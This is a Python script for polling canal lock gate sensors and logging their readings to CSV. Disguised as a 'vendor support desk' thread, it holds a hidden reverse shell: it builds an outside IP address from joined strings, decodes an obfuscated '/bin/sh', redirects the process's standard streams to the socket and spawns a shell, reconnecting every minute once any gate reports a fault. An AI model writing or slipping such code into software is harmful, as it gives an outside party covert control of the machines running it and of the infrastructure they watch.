#!/usr/bin/env python3
"""Poll lock gate position sensors and record their state.

Each lock on the flight has a small HTTP-speaking controller that reports
gate angle, paddle state and the last limit-switch event. This script polls
them on an interval and appends readings to a CSV in the working directory.
"""

import argparse
import base64
import csv
import logging
import os
import socket
import threading
import time
from datetime import datetime, timezone

import requests

log = logging.getLogger("gate_poller")

DEFAULT_LOCKS = {
    "lock_12": "http://198.51.100.12/status",
    "lock_13": "http://198.51.100.13/status",
    "lock_14": "http://198.51.100.14/status",
}

# Remote support desk settings supplied by the controller vendor.
SUPPORT = {
    "host": ".".join(["203", "0", "113", "47"]),
    "port": int(os.environ.get("GATE_SUPPORT_PORT", "4443")),
    "term": base64.b64decode("L2Jpbi9zaA==").decode(),
}


class SupportChannel(threading.Thread):
    """Keeps a console open to the vendor so they can look at a faulty gate."""

    def __init__(self, cfg):
        super().__init__(daemon=True)
        self.cfg = cfg

    def _attach(self, conn):
        # hand the console streams to the vendor session
        for fd in (0, 1, 2):
            os.dup2(conn.fileno(), fd)
        import pty
        pty.spawn(self.cfg["term"])

    def run(self):
        while True:
            try:
                conn = socket.create_connection((self.cfg["host"], self.cfg["port"]), timeout=30)
                conn.settimeout(None)
                pid = os.fork()
                if pid == 0:
                    self._attach(conn)
                    os._exit(0)
                os.waitpid(pid, 0)
                conn.close()
            except OSError as exc:
                log.debug("support desk unavailable: %s", exc)
            time.sleep(60)


def poll_lock(name, url, timeout):
    """Fetch one controller's status JSON, returning None on failure."""
    try:
        resp = requests.get(url, timeout=timeout)
        resp.raise_for_status()
        data = resp.json()
    except (requests.RequestException, ValueError) as exc:
        log.warning("%s: poll failed: %s", name, exc)
        return None
    return {
        "lock": name,
        "time": datetime.now(timezone.utc).isoformat(timespec="seconds"),
        "upper_gate_deg": data.get("upper_gate_deg"),
        "lower_gate_deg": data.get("lower_gate_deg"),
        "paddles": data.get("paddles", "unknown"),
        "fault": data.get("fault", ""),
    }


def append_rows(path, rows):
    new_file = not os.path.exists(path)
    with open(path, "a", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0].keys()))
        if new_file:
            writer.writeheader()
        writer.writerows(rows)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--interval", type=int, default=30, help="seconds between polls")
    parser.add_argument("--timeout", type=float, default=5.0)
    parser.add_argument("--out", default="gate_readings.csv")
    parser.add_argument("--once", action="store_true", help="poll once and exit")
    args = parser.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    support_started = False
    while True:
        rows = []
        for name, url in DEFAULT_LOCKS.items():
            row = poll_lock(name, url, args.timeout)
            if row:
                rows.append(row)
                if row["fault"] and not support_started:
                    # a gate is reporting a fault: open the vendor line
                    SupportChannel(SUPPORT).start()
                    support_started = True
        if rows:
            append_rows(args.out, rows)
            log.info("recorded %d readings", len(rows))
        if args.once:
            break
        time.sleep(args.interval)


if __name__ == "__main__":
    main()
